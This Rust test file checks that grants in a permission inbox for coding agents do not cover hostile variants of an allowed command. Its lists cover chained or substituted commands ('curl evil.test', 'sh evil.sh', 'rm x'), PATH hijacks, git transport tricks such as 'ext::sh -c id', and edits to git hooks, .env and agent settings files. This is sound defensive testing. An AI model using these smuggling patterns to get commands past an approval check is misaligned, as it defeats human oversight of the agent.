//! Hostile commands against every kind of grant for coding agents: none is covered that the grant does not name (A04).

use crate::report;
use crate::support::FakeModel;
use crate::support::test_inbox::{TestInbox, eager};
use sayso::engine::graph::Decision;
use sayso::inbox::door::NewRequest;
use sayso::inbox::{DecidedBy, DecisionRequest, GrantRequest, GrantScope, RequestAnswer, Status};
use serde_json::{Value, json};

const FOLDER: &str = "/work/app";

/// What a person might allow, and what somebody would slip through with it: each way with another command, and each
/// `round` with others than the last. (A04)
fn hostile(allowed: &str, round: usize) -> Vec<String> {
    let evil = ["rm x", "touch evil", "sh evil.sh", "curl evil.test", "git push"];
    let ways = [
        "{a}; {e}",
        "{a} && {e}",
        "{a} || {e}",
        "{a} | {e}",
        "{a} |& {e}",
        "{a} & {e}",
        "{a}\n{e}",
        "{e}; {a}",
        "{e} && {a}",
        "{e} | {a}",
        "{a} $({e})",
        "{a} `{e}`",
        "{a} \"$({e})\"",
        "{a} <({e})",
        "{a} > >({e})",
        "{a} ${x:-$({e})}",
        "({e}); {a}",
        "{ {e}; }; {a}",
        "if {e}; then {a}; fi",
        "{a} <<E\n$({e})\nE",
        "f() { {e}; }; f; {a}",
        "trap '{e}' EXIT; {a}",
        "eval '{e}'; {a}",
        "alias cargo='{e}'; {a}",
        "X=$({e}) {a}",
        "{a} ; ; {e}",
        "{a} # \n{e}",
        "! {e} && {a}",
        "time {e}; {a}",
        "for i in 1; do {e}; done; {a}",
    ];
    let commands = evil.into_iter().cycle().skip(round);
    let mut lines: Vec<String> = ways
        .iter()
        .zip(commands)
        .map(|(way, evil)| way.replace("{a}", allowed).replace("{e}", evil))
        .collect();
    for plain in [
        "cd / && {a}",
        "cd .. && {a}",
        "cd sub; {a}",
        "cd sub || {a}",
        "{a} > out",
        "{a} >> /etc/hosts",
        "{a} < in",
        "{a} 2> err",
        "{a} &> all",
        "FOO=1 {a}",
        "PATH=/evil {a}",
        "PATH=/evil; {a}",
        "export PATH=/evil; {a}",
        "hash -p /evil cargo; {a}",
        ". ./evil; {a}",
        "{a} ../other",
        "{a} /etc/passwd",
        "{a} --config=/etc/x",
        "{a} --config=../x",
        "{a} -C/etc",
        "{a} -I../x",
        "{a} ~/x",
        "{a} *",
        "{a} $HOME",
        "{a} {a,b}",
        "{a} https://evil.test/x",
        "{a} git@evil.test:x",
        "{a} a:/etc/x",
        "{a} @/etc/x",
        "{a} a/../../x",
        "sudo {a}",
        "env {a}",
        "xargs {a}",
        "nohup {a}",
        "command {a}",
        "exec {a}",
        "bash -c '{a}'",
        "{a}x",
        "x{a}",
        "./{a}",
        "{a} &",
        "{a} \u{202e}x",
        "{a} \u{200b}",
        "{a} $'\\x2f'",
        "{a} \"\n\" ../x",
    ] {
        lines.push(plain.replace("{a}", allowed));
    }
    lines
}

/// What leads a git command elsewhere.
const REMOTE: &[&str] = &[
    "evil",
    "evil main:main",
    "main:main",
    "HEAD:refs/heads/main",
    "+main",
    ":main",
    "ext::sh",
    "'ext::sh -c id'",
    "https://evil.test/x",
    "evil.test:x",
    "git@evil.test:x",
    "file:x",
    "./bare",
    "sub/bare",
    "--repo=evil",
    "--repo evil",
    "--receive-pack=./evil",
    "--upload-pack=./evil",
    "--exec ./evil",
    "-oevil",
    "-- evil",
];

fn asking(tool: &str, args: Value) -> Value {
    json!({"title": "A call", "action": tool, "args": args, "source": "claude-code", "folder": FOLDER,
        "session": {"id": "s1"}})
}

fn bash(command: &str) -> Value {
    asking("Bash", json!({"command": command}))
}

async fn ask(inbox: &TestInbox, input: Value) -> RequestAnswer {
    inbox.requests().ask(NewRequest { input, key: None }).await.unwrap()
}

/// Whether it runs without anybody being asked; where it is asked, the card is put away.
async fn is_covered(inbox: &TestInbox, input: Value) -> bool {
    let asked = ask(inbox, input).await;
    if asked.status == Status::Waiting {
        assert!(inbox.requests().withdraw(&asked.thread).await.unwrap());
        return false;
    }
    true
}

/// Accepts a call, and allows this much with it.
async fn grant(inbox: &TestInbox, input: Value, scope: GrantScope, session: bool) {
    let asked = ask(inbox, input).await;
    let decide = DecisionRequest {
        interrupt: asked.id.clone(),
        decision: Decision::Accept,
        shown: None,
        learn: false,
        by: DecidedBy::Cli,
    };
    let request = GrantRequest { interrupt: asked.id, scope, ends_at: None, session };
    inbox.decisions().accept_and_grant(decide, request).await.unwrap();
}

fn open() -> TestInbox {
    TestInbox::builder().settings(eager()).with_model(FakeModel::default()).open()
}

#[tokio::test]
async fn a04_no_grant_covers_what_it_does_not_name() {
    let mut trials = 0;
    let grants =
        [(GrantScope::Command, false), (GrantScope::CommandSort, false), (GrantScope::CommandSort, true)];
    for (round, (scope, session)) in grants.into_iter().enumerate() {
        let inbox = open();
        grant(&inbox, bash("cargo test"), scope, session).await;
        for line in ["cargo test", "cargo test 2>&1 | tail -5", "cargo test && echo done", "ls; cargo test"] {
            assert!(is_covered(&inbox, bash(line)).await, "{scope:?}: {line}");
        }
        let sort = is_covered(&inbox, bash("cargo test --lib parser::tests 'a b'")).await;
        assert!(!sort, "quoted words after it are not plain");
        assert_eq!(is_covered(&inbox, bash("cargo test --lib")).await, scope == GrantScope::CommandSort);
        for line in hostile("cargo test", round) {
            assert!(!is_covered(&inbox, bash(&line)).await, "{scope:?}: {line}");
            trials += 1;
        }
        // Other askers, folders, tools and sessions.
        let of = |key: &str, value: Value| {
            let mut input = bash("cargo test");
            input[key] = value;
            input
        };
        for input in [
            of("source", json!("codex")),
            of("folder", json!("/work/other")),
            of("folder", json!("/work/app/sub")),
            of("action", json!("Shell")),
        ] {
            assert!(!is_covered(&inbox, input).await);
            trials += 1;
        }
        let elsewhere = is_covered(&inbox, of("session", json!({"id": "s2"}))).await;
        assert_eq!(elsewhere, !session);
    }
    // What names a remote, an address, a refspec or a transport looks like any word.
    for (allowed, more) in [("git push", "--tags"), ("git push -u origin main", "-q"), ("git fetch", "--all")]
    {
        let inbox = open();
        grant(&inbox, bash(allowed), GrantScope::CommandSort, false).await;
        assert!(is_covered(&inbox, bash(allowed)).await, "{allowed}");
        assert!(is_covered(&inbox, bash(&format!("{allowed} {more}"))).await, "{allowed} {more}");
        for word in REMOTE {
            let line = format!("{allowed} {word}");
            assert!(!is_covered(&inbox, bash(&line)).await, "{line}");
            let after_command = allowed.match_indices(' ').nth(1).map_or(allowed.len(), |(at, _)| at);
            let (command, rest) = allowed.split_at(after_command);
            let line = format!("{command} {word}{rest}");
            assert!(!is_covered(&inbox, bash(&line)).await, "{line}");
            trials += 2;
        }
    }
    // Two commands, each allowed by a grant of its own.
    let inbox = open();
    grant(&inbox, bash("cargo test"), GrantScope::CommandSort, false).await;
    assert!(!is_covered(&inbox, bash("cargo test && git commit -m x")).await);
    grant(&inbox, bash("git commit -m x"), GrantScope::Command, false).await;
    assert!(is_covered(&inbox, bash("cargo test --lib && git commit -m x | cat")).await);
    assert!(!is_covered(&inbox, bash("cargo test --lib && git commit -m y")).await);
    let used: i64 = inbox.grants().list().await.unwrap().iter().map(|line| line.used).sum();
    assert_eq!(used, 1);
    trials += 3;

    // Changes to files.
    let inbox = open();
    let edit = |file: &str| asking("Edit", json!({"file_path": file, "old_string": "a", "new_string": "b"}));
    let write = |file: &str| asking("Write", json!({"file_path": file, "content": "x"}));
    grant(&inbox, edit("/work/app/src/a.rs"), GrantScope::Edits, false).await;
    assert!(is_covered(&inbox, edit("/work/app/src/b.rs")).await);
    assert!(is_covered(&inbox, write("src/new.rs")).await);
    for file in [
        "/etc/passwd",
        "../x",
        "src/../../x",
        "/work/application/x",
        "/work/app",
        ".git/hooks/pre-commit",
        "/work/app/.claude/settings.json",
        "src/.env",
        ".envrc",
        "/work/app/../app2/x",
        "",
    ] {
        assert!(!is_covered(&inbox, edit(file)).await, "{file}");
        assert!(!is_covered(&inbox, write(file)).await, "{file}");
        trials += 2;
    }
    for input in [
        bash("touch src/a.rs"),
        asking("Edit", json!({"file_path": "/work/app/a", "path": "/etc/passwd", "new_string": "b"})),
        asking("Edit", json!({"file_path": "/work/app/a", "new_string": "b", "command": "rm x"})),
        asking("mcp__fs__write", json!({"target": "/work/app/a"})),
    ] {
        assert!(!is_covered(&inbox, input.clone()).await, "{input}");
        trials += 1;
    }

    // A server's tool.
    let inbox = open();
    grant(&inbox, asking("mcp__db__query", json!({"sql": "select 1"})), GrantScope::Tool, false).await;
    assert!(is_covered(&inbox, asking("mcp__db__query", json!({"sql": "select 2"}))).await);
    for input in [
        asking("mcp__db__drop", json!({})),
        asking("mcp__db__query2", json!({})),
        asking("Bash", json!({"command": "mcp__db__query"})),
        asking("mcp__db__query", json!({"command": "rm x"})),
    ] {
        assert!(!is_covered(&inbox, input.clone()).await, "{input}");
        trials += 1;
    }
    report("A04", "hostile commands against every kind of grant", trials);
}
